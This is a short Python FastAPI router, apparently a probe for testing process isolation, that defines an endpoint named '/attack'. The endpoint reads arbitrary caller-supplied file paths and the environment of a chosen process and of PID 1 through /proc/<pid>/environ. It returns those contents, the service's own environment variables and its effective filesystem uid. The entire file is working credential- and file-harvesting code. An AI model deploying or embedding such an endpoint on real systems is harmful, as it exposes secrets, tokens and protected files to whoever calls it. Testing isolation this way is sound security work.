import os

from fastapi import APIRouter

router = APIRouter()


def read(path: str) -> str:
    try:
        with open(path, "rb") as f:
            return f.read(100_000).decode("latin-1")
    except OSError as exc:
        return f"refused: {type(exc).__name__}"


@router.get("/attack")
def attack(kernel_pid: int, paths: str) -> dict[str, object]:
    found = {p: read(p) for p in paths.split(",")}
    found[f"/proc/{kernel_pid}/environ"] = read(f"/proc/{kernel_pid}/environ")
    found["/proc/1/environ"] = read("/proc/1/environ")
    # the user files are opened as (a worker keeping root's file access at the rlimits
    # level runs as nobody for everything else)
    with open("/proc/self/status") as f:
        fsuid = next(int(line.split()[4]) for line in f if line.startswith("Uid:"))
    return {"env": dict(os.environ), "files": found, "uid": fsuid}
